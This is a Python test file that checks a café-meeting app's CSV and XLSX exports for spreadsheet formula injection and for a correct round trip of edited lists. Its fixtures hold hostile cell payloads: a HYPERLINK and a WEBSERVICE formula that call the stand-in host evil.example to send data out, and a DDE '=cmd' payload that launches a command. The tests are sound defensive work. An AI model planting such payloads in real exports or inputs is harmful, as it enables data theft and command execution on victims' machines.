"""Hostile notes, theme labels, action titles, wishes and café names never become formulas in a CSV or
XLSX export (actions, pre-vote, city view), and the round trip of an edited list gives back what was typed."""
import csv
import io
import re

import openpyxl
import pytest

from cafe.documents.cells import FORMULA_STARTS
from cafe.events import votes
from cafe.extensions import db
from cafe.followup import actions
from cafe.models import FrameworkPoint, Note, User
from cafe.models.action import ActionItem
from cafe.models.theme import Theme, ThemeMembership

HOSTILE = {"title": '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")', "description": "+46 70 123 45 67",
           "responsible": "-2+3", "subgoal_indicator": "@SUM(A1:A9)", "subgoal_target": "=1+1",
           "subgoal_current": "+1"}
THEME = "=cmd|' /C calc'!A0"
NOTE = "@evil hot o våld på mottagningen"
COMMENT = "=1+1 sa APT"
CAFE = "-Ekbackens café"


@pytest.fixture
def hostile(event, demo):
    """A café with a hostile name, a hostile note in a hostile theme turned into an approved action with
    hostile fields and comment, a hostile wish and a hostile point label in its pre-vote."""
    lead = db.session.scalar(db.select(User).where(User.email == demo["project_lead"]["email"]))
    event.title = CAFE
    note = db.session.scalars(db.select(Note).where(Note.event_id == event.id).order_by(Note.id)).first()
    note.text, note.suggested_point = NOTE, 0
    theme = Theme(event_id=event.id, label=THEME, novel=True)
    db.session.add(theme)
    db.session.flush()
    db.session.add(ThemeMembership(note_id=note.id, theme_id=theme.id, event_id=event.id))
    [draft] = actions.drafts_from_theme(event, theme.id, lead)
    actions.update(draft, dict(HOSTILE, title=HOSTILE["title"]), lead)
    actions.add_comment(draft, COMMENT, lead)
    actions.approve(draft, lead)
    vote = votes.vote_of(event)
    db.session.add(FrameworkPoint(framework_id=event.framework_id, number=14, label="=Hot och våld",
                                  title="@Hot och våld mot personal"))
    vote.ballots[0].wish = "=WEBSERVICE(\"http://evil.example\")"
    db.session.commit()
    return draft


def _csv_cells(body: bytes) -> list[str]:
    """Every cell of a CSV download."""
    rows = csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";")
    return [cell for row in rows for cell in row]


def _assert_csv_defused(body: bytes, expected: list[str]) -> None:
    """No cell starts like a formula, and each hostile text is there behind an apostrophe."""
    cells = _csv_cells(body)
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    for text in expected:
        assert "'" + text in cells, text


def _assert_xlsx_defused(body: bytes, expected: list[str]) -> None:
    """No cell is a formula; each hostile text is there exactly as typed, stored as text and marked so."""
    book = openpyxl.load_workbook(io.BytesIO(body))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)]
    assert all(c.data_type == "s" and c.quotePrefix for c in risky), [c.value for c in risky]
    found = {c.value for c in cells if isinstance(c.value, str)}
    for text in expected:
        assert any(value == text or value.startswith(text) for value in found), text


def test_action_list_csv_and_xlsx(event, hostile, lead_client):
    expected = [*HOSTILE.values(), THEME, COMMENT]
    base = f"/api/v1/events/{event.id}/actions"
    _assert_csv_defused(lead_client.get(base + ".csv").data, expected)
    _assert_xlsx_defused(lead_client.get(base + ".xlsx").data, expected + [CAFE])


def test_pre_vote_csv_and_xlsx(event, hostile, organizer_client):
    base = f"/organizer/events/{event.id}/vote/results"
    _assert_csv_defused(organizer_client.get(base + ".csv").data, ["=Hot och våld", "@Hot och våld mot personal"])
    _assert_xlsx_defused(organizer_client.get(base + ".xlsx").data,
                         ["=Hot och våld", "@Hot och våld mot personal", "=WEBSERVICE(\"http://evil.example\")"])


def test_city_xlsx(event, hostile, lead_client):
    _assert_xlsx_defused(lead_client.get("/city/export.xlsx").data, [CAFE, THEME])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_round_trip_gives_back_the_hostile_text_as_typed(event, hostile, lead_client, fmt):
    body = lead_client.get(f"/api/v1/events/{event.id}/actions.{fmt}").data
    edited = _edited(body, fmt, hostile.id)
    preview = lead_client.post(f"/actions/events/{event.id}/upload",
                               data={"file": (io.BytesIO(edited), f"lista.{fmt}")}, content_type="multipart/form-data")
    assert preview.status_code == 200, preview.data[:500]
    token = re.search(r"/upload/([\w-]+)\"", preview.data.decode()).group(1)
    lead_client.post(f"/actions/events/{event.id}/upload/{token}")
    db.session.expire_all()
    action = db.session.get(ActionItem, hostile.id)
    assert action.status == "genomford"
    assert (action.responsible, action.subgoal_current, action.latest_comment) == (
        HOSTILE["responsible"], HOSTILE["subgoal_current"], COMMENT)


def _edited(body: bytes, fmt: str, action_id: int) -> bytes:
    """The exported list with the hostile action's status set to done, everything else as exported."""
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))
        status = rows[0].index("Status")
        next(r for r in rows if r[0] == str(action_id))[status] = "genomförd"
        out = io.StringIO()
        csv.writer(out, delimiter=";", lineterminator="\r\n").writerows(rows)
        return out.getvalue().encode("utf-8-sig")
    book = openpyxl.load_workbook(io.BytesIO(body))
    for sheet in book.worksheets[1:]:
        header = next(r for r in sheet.iter_rows() if r[0].value == "ID")
        status = [c.value for c in header].index("Status")
        for row in sheet.iter_rows(min_row=header[0].row + 1):
            if row[0].value == action_id:
                row[status].value = "genomförd"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
